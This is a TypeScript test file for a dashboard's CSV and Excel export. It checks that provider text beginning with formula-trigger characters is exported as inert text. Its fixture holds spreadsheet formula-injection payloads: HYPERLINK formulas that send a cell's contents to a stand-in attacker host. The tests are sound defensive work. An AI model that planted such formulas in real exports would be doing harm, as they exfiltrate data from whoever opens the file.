import { buffer, text } from 'node:stream/consumers'
import { parse } from 'csv-parse/sync'
import ExcelJS from 'exceljs'
import { describe, expect, it } from 'vitest'
import { type Column, tableCsv, tableXlsx } from './table-export.ts'

// Text a provider typed, starting with each character a spreadsheet reads as a formula.
const formulas = ['=', '+', '-', '@', '\t', '\r'].map(
  (c) => `${c}HYPERLINK("http://evil.example/?"&A2,"Click")`,
)
type Row = { concerns: string; beds: number; sentAt: Date; closed: boolean }
const rows: Row[] = formulas.map((concerns, i) => ({
  concerns,
  beds: i - 3,
  sentAt: new Date('2020-04-14T08:00:00Z'),
  closed: i % 2 === 0,
}))
const columns: Column<Row>[] = [
  ['Concerns', (r) => r.concerns],
  ['Vacant beds', (r) => r.beds],
  ['Sent at', (r) => r.sentAt],
  ['Closed to admissions', (r) => r.closed],
]
async function* batches() {
  yield rows.slice(0, 3)
  yield rows.slice(3)
}

describe('the dashboard exports', () => {
  it('write text a spreadsheet would run as a formula as harmless text in the CSV, numbers as numbers', async () => {
    const records = parse(await text(tableCsv(columns, batches())), { columns: true }) as Record<
      string,
      string
    >[]
    expect(records.map((r) => r.Concerns)).toEqual(formulas.map((f) => `'${f}`))
    expect(records.map((r) => r['Vacant beds'])).toEqual(['-3', '-2', '-1', '0', '1', '2'])
    expect(records[0]).toMatchObject({ 'Sent at': '2020-04-14T08:00:00.000Z', 'Closed to admissions': 'Yes' })
  })

  // exceljs writes a string as a string (t="str" with no <f>), never as a formula unless given {formula}:
  // the XLSX keeps the provider's text exactly, and no spreadsheet runs it.
  it('write the same text into the XLSX as strings, never as formulas', async () => {
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.load(
      (await buffer(tableXlsx(columns, batches(), 'Returns'))) as unknown as ArrayBuffer,
    )
    const sheet = workbook.worksheets[0]!
    expect(sheet.actualRowCount).toBe(rows.length + 1)
    rows.forEach((row, i) => {
      const concerns = sheet.getRow(i + 2).getCell(1)
      expect(concerns.type).toBe(ExcelJS.ValueType.String)
      expect(concerns.formula).toBeUndefined()
      // XML reads a carriage return as a line feed; the text is otherwise exactly the provider's.
      expect(concerns.value).toBe(row.concerns.replace('\r', '\n'))
      expect(sheet.getRow(i + 2).getCell(2).value).toBe(i - 3)
    })
  })
})
